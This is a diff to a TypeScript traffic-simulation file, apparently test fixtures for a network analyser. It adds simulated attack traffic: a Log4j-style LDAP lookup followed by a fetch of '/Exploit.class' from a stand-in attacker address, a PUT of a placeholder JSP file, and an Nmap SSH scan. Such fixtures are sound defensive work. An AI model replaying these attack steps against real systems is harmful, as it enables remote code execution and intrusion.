@@ -1,5 +1,9 @@
 // Flaws of web servers and devices tried from the Internet, and a web site that is only visited.
-import { Scene, type Take } from './scene.ts';
+import { search } from '../../laws/conversations/ldap.ts';
+import { kexInit } from '../../laws/conversations/ssh.ts';
+import { spoken as tls } from '../../laws/conversations/tls.ts';
+import { element } from '../../support/packets/ber.ts';
+import { part, Scene, type Take } from './scene.ts';
 import { type Asked, fetch } from './web.ts';
 
 const STRANGER = '203.0.113.50';
@@ -8,6 +12,18 @@ const SERVER = '10.20.0.80';
 const DESK = '10.20.1.12';
 const OUTSIDE = '198.51.100.80';
 
+const SCANNED = kexInit(
+  ...[
+    'curve25519-sha256',
+    'ssh-ed25519',
+    'aes256-ctr',
+    'aes256-ctr',
+    'hmac-sha2-256',
+    'hmac-sha2-256',
+    'none',
+    'none',
+  ],
+);
 const NOT_FOUND: Asked = { status: '404 Not Found' };
 /** Who tries, and what: one of each kind of flaw. */
 const TRIED: readonly (readonly [url: string, asked?: Asked])[] = [
@@ -40,6 +56,27 @@ export function attack(): Take {
     agent: 'Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)',
   });
   fetch(scene, STRANGER, SERVER, '198.51.100.80:443', { method: 'CONNECT', status: '200 OK', page: '' });
+  // The server does as Log4j bids it, and fetches the class.
+  scene.tcp(SERVER, STRANGER, 389, [
+    'client',
+    search(1, 'a', 0, element(0x87, 'objectClass'), 'javaCodeBase'),
+  ]);
+  fetch(scene, SERVER, STRANGER, '/Exploit.class', {
+    host: STRANGER,
+    agent: 'Java/1.8.0_181',
+    answer: ['Server: SimpleHTTP/0.6 Python/3.11.2', 'Content-Type: application/java-vm'],
+  });
+  fetch(scene, STRANGER, SERVER, '/x.jsp/', { method: 'PUT', body: '<% %>', status: '201 Created' });
+  scene.talk(STRANGER, SERVER, part(tls, 6));
+  scene.tcp(
+    STRANGER,
+    '10.20.0.22',
+    22,
+    ['server', 'SSH-2.0-OpenSSH_9.2\r\n'],
+    ['client', 'SSH-2.0-Nmap-SSH2-Hostkey\r\n'],
+    ['client', SCANNED],
+    ['server', SCANNED],
+  );
   fetch(scene, STRANGER, SERVER, '/', { method: 'PROPFIND', status: '207 Multi-Status' });
   fetch(scene, DESK, OUTSIDE, '/invoice.iso', {
     host: 'files.example',
